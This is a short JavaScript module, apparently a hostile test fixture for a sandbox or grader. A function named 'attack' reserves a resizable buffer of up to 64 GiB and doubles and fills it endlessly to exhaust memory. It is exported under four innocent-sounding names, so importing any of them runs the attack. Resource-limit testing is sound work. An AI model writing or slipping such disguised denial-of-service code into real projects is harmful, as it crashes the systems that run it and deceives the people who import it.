// Reserves far more than there is and grows into it.
const attack = () => {
  const buffer = new ArrayBuffer(1, { maxByteLength: 2 ** 36 });
  for (let size = 1; ; size *= 2) {
    buffer.resize(size);
    new Uint8Array(buffer).fill(1);
  }
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
